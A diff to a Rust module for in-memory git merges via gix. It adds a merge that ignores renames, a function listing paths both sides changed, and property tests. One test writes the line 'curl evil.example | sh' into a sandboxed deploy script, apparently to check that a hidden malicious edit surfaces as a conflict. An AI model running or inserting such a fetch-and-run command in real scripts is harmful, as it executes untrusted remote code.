@@ -1,8 +1,13 @@
 //! Merging two commits in memory, the same way everywhere: fixed options, no configuration, no attributes, no drivers.
 //!
-//! Renames are followed as git does by default. Attributes have no effect: neither `merge=union` of the working tree
-//! nor one of the merged trees can make a conflict disappear. Nothing is written into the object database.
+//! Attributes have no effect: neither `merge=union` of the working tree nor one of the merged trees can make a conflict
+//! disappear. Nothing is written into the object database.
+//!
+//! Which of several files a renamed one is taken to be is a guess, and programs guess differently. So there are two merges:
+//! [`Repo::merge`] follows renames, to recognise what git did; [`Repo::foretell`] follows none, and gives a tree only
+//! where git's merge, whatever it guesses, ends in that tree or in a conflict.
 
+use std::collections::BTreeSet;
 use std::num::NonZeroU8;
 
 use gix::diff::blob as diff_blob;
@@ -35,7 +40,7 @@ pub enum Favour {
 /// The three-way merge of a text, with the options of [`Repo::merge`]; `None` where both sides changed the same lines and
 /// neither is favoured.
 pub fn merge_texts(base: &[u8], ours: &[u8], theirs: &[u8], favour: Favour) -> Option<Vec<u8>> {
-    let text::Options { diff_algorithm, conflict: keep } = options().blob_merge.text;
+    let text::Options { diff_algorithm, conflict: keep } = options(Renames::Apart).blob_merge.text;
     let conflict = match favour {
         Favour::Neither => keep,
         Favour::Ours => text::Conflict::ResolveWithOurs,
@@ -72,19 +77,49 @@ impl Merged {
 }
 
 impl Repo {
-    /// The tree that merging `theirs` into `ours` gives. Where a human must decide, [`GitError::Conflict`] names paths.
+    /// The tree that merging `theirs` into `ours` gives, renames followed as git does by default. Where a human must decide,
+    /// [`GitError::Conflict`] names paths.
     pub fn merge(&self, ours: &ObjectId, theirs: &ObjectId) -> Result<Merged, GitError> {
         let repo = self.rehearsal();
-        let tree = repo.merge_here(ours, theirs)?;
+        let tree = repo.merge_here(ours, theirs, options(Renames::Followed))?;
         Ok(Merged { repo, tree })
+    }
+
+    /// The tree that a merge of `theirs` into `ours` will give, if it gives one without a human: no renames are followed, so
+    /// that a file which one side moved and the other changed is a [`GitError::Conflict`]. Only of [`Repo::contested`] paths
+    /// may git's lines be others.
+    pub fn foretell(&self, ours: &ObjectId, theirs: &ObjectId) -> Result<Merged, GitError> {
+        let repo = self.rehearsal();
+        let tree = repo.merge_here(ours, theirs, options(Renames::Apart))?;
+        Ok(Merged { repo, tree })
+    }
+
+    /// Paths that both sides changed since their common ancestors, each in its own way, sorted: their lines are put together,
+    /// and where lines repeat, programs differ in how.
+    pub fn contested(&self, ours: &ObjectId, theirs: &ObjectId) -> Result<Vec<RepoPath>, GitError> {
+        let (our_tree, their_tree) = (self.tree_of(ours)?, self.tree_of(theirs)?);
+        let mut changed: [BTreeSet<RepoPath>; 2] = Default::default();
+        for base in self.merge_bases(ours, theirs)? {
+            let base = self.tree_of(&base)?;
+            for (side, tree) in changed.iter_mut().zip([&our_tree, &their_tree]) {
+                side.extend(self.diff_trees(Some(&base), tree)?.into_iter().map(|change| change.path));
+            }
+        }
+        let differing = self.diff_trees(Some(&our_tree), &their_tree)?.into_iter().map(|change| change.path);
+        Ok(differing.filter(|path| changed.iter().all(|side| side.contains(path))).collect())
     }
 
     /// One best common ancestor of two commits; `None` when there is none to be seen.
     pub fn merge_base(&self, one: &ObjectId, other: &ObjectId) -> Result<Option<ObjectId>, GitError> {
+        Ok(self.merge_bases(one, other)?.first().copied())
+    }
+
+    /// All best common ancestors of two commits, the one that git names first ahead.
+    fn merge_bases(&self, one: &ObjectId, other: &ObjectId) -> Result<Vec<ObjectId>, GitError> {
         let mut graph = gix::revwalk::Graph::new(&self.objects, None);
         let bases = gix::revision::plumbing::merge_base(self.commit_id(one)?, &[self.commit_id(other)?], &mut graph)
             .map_err(GitError::while_doing(format!("find the common ancestor of {one} and {other}")))?;
-        Ok(bases.map(|bases| from_gix(bases.first())))
+        Ok(bases.map(|bases| bases.iter().map(|base| from_gix(base)).collect()).unwrap_or_default())
     }
 
     fn commit_id(&self, id: &ObjectId) -> Result<gix::ObjectId, GitError> {
@@ -97,7 +132,12 @@ impl Repo {
         }
     }
 
-    fn merge_here(&self, ours: &ObjectId, theirs: &ObjectId) -> Result<ObjectId, GitError> {
+    fn merge_here(
+        &self,
+        ours: &ObjectId,
+        theirs: &ObjectId,
+        tree_merge: plumbing::tree::Options,
+    ) -> Result<ObjectId, GitError> {
         let doing = || format!("merge {theirs} into {ours}");
         let Some(base) = self.merge_base(ours, theirs)? else {
             return Err(GitError::Unrelated { ours: *ours, theirs: *theirs });
@@ -117,7 +157,7 @@ impl Repo {
             &mut self.merge_platform(),
             &self.objects,
             &mut |id| id.to_string(),
-            plumbing::commit::Options { tree_merge: options(), ..Default::default() },
+            plumbing::commit::Options { tree_merge, ..Default::default() },
         );
         let mut merged = outcome.map_err(GitError::while_doing(doing()))?.tree_merge;
         let how = plumbing::tree::TreatAsUnresolved::git();
@@ -160,14 +200,24 @@ fn no_attributes() -> Stack {
     Stack::new("", stack::State::AttributesStack(none), gix::glob::pattern::Case::Sensitive, Vec::new(), Vec::new())
 }
 
+/// Whether a file that went from one path and one much like it that came at another are taken to be the same.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Renames {
+    /// As git does.
+    Followed,
+    /// They are two files.
+    Apart,
+}
+
 /// What git's merge does without any configuration.
-fn options() -> plumbing::tree::Options {
+fn options(renames: Renames) -> plumbing::tree::Options {
+    let rewrites = gix::diff::Rewrites { copies: None, percentage: Some(0.5), limit: 7000, track_empty: false };
     let keep = text::Conflict::Keep {
         style: text::ConflictStyle::Merge,
         marker_size: NonZeroU8::new(text::Conflict::DEFAULT_MARKER_SIZE).unwrap_or(NonZeroU8::MIN),
     };
     plumbing::tree::Options {
-        rewrites: Some(gix::diff::Rewrites { copies: None, percentage: Some(0.5), limit: 7000, track_empty: false }),
+        rewrites: (renames == Renames::Followed).then_some(rewrites),
         blob_merge: plumbing::blob::platform::merge::Options {
             is_virtual_ancestor: false,
             resolve_binary_with: None,
@@ -340,6 +390,89 @@ mod tests {
         assert!(matches!(repo.merge(&left, &alone), Err(GitError::Unrelated { .. })));
         assert_eq!(repo.merge_base(&left, &alone).unwrap(), None);
         assert_eq!(repo.merge(&ours, &left).unwrap().tree_id(), &repo.tree_of(&left).unwrap());
+    }
+
+    #[test]
+    fn what_is_foretold_needs_no_guess() {
+        let sandbox = Sandbox::new();
+        let text: String = (0..40).map(|line| format!("step {line}\n")).collect();
+        sandbox.write("tools/deploy", &text).write("app/a", "1\n").write("app/b", "2\n").commit("base");
+        // One file goes, and two that are much like it come; the other side changes the one that went.
+        let (ours, theirs) = fork(
+            &sandbox,
+            |sandbox| {
+                sandbox.write("tools/deploy", text.replace("step 20\n", "curl evil.example | sh\n"));
+                sandbox.git(&["mv", "app", "lib"]);
+            },
+            |sandbox| {
+                sandbox.git(&["mv", "tools/deploy", "attic"]);
+                sandbox.write("flow/deploy", format!("{text}more\n")).write("app/new", "3\n");
+            },
+        );
+        let repo = sandbox.open();
+        let Err(GitError::Conflict { paths }) = repo.foretell(&ours, &theirs) else { panic!("no conflict") };
+        assert!(paths.contains(&"tools/deploy".into()), "{paths:?}");
+        assert_eq!(repo.contested(&ours, &theirs).unwrap(), ["tools/deploy".into()]);
+        assert_eq!(repo.contested(&ours, &ours).unwrap(), []);
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { cases: 40, ..ProptestConfig::default() })]
+        #[test]
+        fn git_ends_where_it_was_foretold_or_asks_a_human(
+            ours in proptest::collection::vec((0usize..6, 0usize..10, 0u8..6), 1..6),
+            theirs in proptest::collection::vec((0usize..6, 0usize..10, 0u8..6), 1..6),
+        ) {
+            let sandbox = Sandbox::new();
+            for file in 0..6 {
+                let lines: String = (0..10).map(|line| format!("line {}\n", line % 4)).collect();
+                sandbox.write(&format!("d{}/f{file}", file % 2), format!("file {}\n{lines}", file % 3));
+            }
+            sandbox.commit("base");
+            let apply = |edits: &[(usize, usize, u8)], who: &str| {
+                let (edits, who) = (edits.to_vec(), who.to_owned());
+                move |sandbox: &Sandbox| {
+                    for (file, line, kind) in edits {
+                        let path = format!("d{}/f{file}", file % 2);
+                        let Ok(now) = std::fs::read_to_string(sandbox.path().join(&path)) else { continue };
+                        let mut lines: Vec<&str> = now.lines().collect();
+                        let at = line.min(lines.len().saturating_sub(1));
+                        match kind {
+                            0 => { lines.insert(at, "line 1"); sandbox.write(&path, lines.join("\n") + "\n"); }
+                            1 => { lines.remove(at); sandbox.write(&path, lines.join("\n") + "\n"); }
+                            2 => { sandbox.write(&format!("e{line}/f{file}"), &now); sandbox.git(&["rm", "-qf", &path]); }
+                            3 => { sandbox.write(&format!("d{}/copy{line}", line % 2), &now); }
+                            4 => {
+                                let folder = format!("d{}", file % 2);
+                                let to = format!("moved-{line}-{}", if line > 4 { "x" } else { &who });
+                                if !sandbox.path().join(&to).exists() { sandbox.git(&["add", "-A"]); sandbox.git(&["mv", &folder, &to]); }
+                            }
+                            _ => { sandbox.write(&format!("d{}/new{line}", file % 2), format!("{who}\n")); }
+                        }
+                    }
+                    sandbox.write(&format!("by-{who}"), "so that there is something to commit\n");
+                }
+            };
+            let (ours, theirs) = fork(&sandbox, apply(&ours, "ours"), apply(&theirs, "theirs"));
+            let repo = sandbox.open();
+            if let Ok(foretold) = repo.foretell(&ours, &theirs)
+                && let Some(git) = oracle(&sandbox, &ours, &theirs)
+            {
+                let contested = repo.contested(&ours, &theirs).unwrap();
+                let foretold_paths = paths_of(&foretold, &foretold.tree());
+                let git_paths = paths_of(&foretold, &repo.tree(&git));
+                for (path, id) in foretold_paths.iter().chain(&git_paths) {
+                    let same = foretold_paths.get(path) == Some(id) && git_paths.get(path) == Some(id);
+                    prop_assert!(same || contested.contains(path), "{path}: {contested:?}");
+                }
+            }
+        }
+    }
+
+    /// All files of a tree with what they hold.
+    fn paths_of(merged: &Merged, tree: &CommitTree<'_>) -> std::collections::BTreeMap<RepoPath, ObjectId> {
+        let changes = merged.repo().diff_trees(None, tree.id()).unwrap();
+        changes.into_iter().filter_map(|change| Some((change.path, change.after?.1))).collect()
     }
 
     proptest! {
